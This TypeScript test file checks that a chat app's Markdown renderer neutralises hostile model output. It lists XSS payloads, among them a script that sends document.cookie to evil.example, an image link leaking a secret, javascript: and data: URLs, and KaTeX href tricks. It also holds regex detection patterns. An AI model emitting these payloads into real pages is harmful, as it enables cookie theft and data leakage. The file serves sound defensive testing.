import { createElement } from "react";
import { prerender } from "react-dom/static";
import { describe, expect, test } from "vitest";
import { Markdown } from "@/components/chat/markdown";

/** The answer renderer as the browser gets it, with every lazy part (code highlighting) resolved. */
async function render(text: string): Promise<string> {
  const { prelude } = await prerender(createElement(Markdown, { text }));
  return new Response(prelude).text();
}

// Each payload is something a model can be talked into writing (prompt injection) or echoes back.
const payloads = [
  "<script>alert(1)</script>",
  "text <script>fetch('//evil.example/'+document.cookie)</script> more",
  '<img src="x" onerror="alert(1)">',
  "<b onmouseover=alert(1)>hover</b>",
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<form action="https://evil.example"><input name="x"><button>go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png?leak=SECRET)",
  '![x](javascript:alert(1) "t")',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "$$\\href{javascript:alert(1)}{x}$$",
  "$$\\url{javascript:alert(1)}$$",
  "$$\\htmlData{onclick=alert(1)}{x}$$",
  "$$\\htmlStyle{background:url(https://evil.example/x)}{x}$$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <script>alert(1)</script>",
];

function assertInert(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<(iframe|object|embed|form|style|link|meta|base|img)\b/i);
  expect(html).not.toMatch(/<svg\b[^>]*\son/i);
  expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\b(href|src|action|formaction|data|xlink:href)\s*=\s*"\s*(javascript|vbscript|data):/i);
}

describe("model output is rendered inert", () => {
  test.each(payloads)("%s", async (payload) => {
    assertInert(await render(payload));
  });

  test("the assertions catch a live payload (so the list above can fail)", () => {
    expect(() => assertInert('<img src="x" onerror="alert(1)">')).toThrow();
    expect(() => assertInert('<a href="javascript:alert(1)">x</a>')).toThrow();
    expect(() => assertInert('<b onclick="x()">x</b>')).toThrow();
  });

  test("a remote image is offered as a link, never loaded", async () => {
    const html = await render("![chart](https://images.example.com/c.png?q=1)");
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('data-testid="md-image-link"');
    expect(html).toContain('href="https://images.example.com/c.png?q=1"');
    expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
  });
});

describe("markdown features", () => {
  test("GFM tables and task lists", async () => {
    const html = await render("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo");
    expect(html).toMatch(/<table[^>]*>/);
    expect(html).toMatch(/<td[^>]*>1<\/td>/);
    expect(html).toMatch(/<input type="checkbox" disabled="" checked=""/);
  });

  test("code blocks carry a language label and a copy button", async () => {
    const html = await render("```python\nprint('hi')\n```");
    expect(html).toContain('data-streamdown="code-block-header"');
    expect(html).toMatch(/<span[^>]*>python<\/span>/);
    expect(html).toContain('data-streamdown="code-block-copy-button"');
  });

  test("math is typeset with KaTeX", async () => {
    const html = await render("Euler: $$e^{i\\pi}+1=0$$");
    expect(html).toContain('class="katex"');
    expect(html).toContain('<annotation encoding="application/x-tex">e^{i\\pi}+1=0</annotation>');
  });

  test("links do not navigate directly: they go through a confirmation", async () => {
    const html = await render("[docs](https://example.com/docs)");
    expect(html).toContain('data-streamdown="link"');
    expect(html).not.toMatch(/<a[^>]*href="https:\/\/example\.com\/docs"/);
  });
});
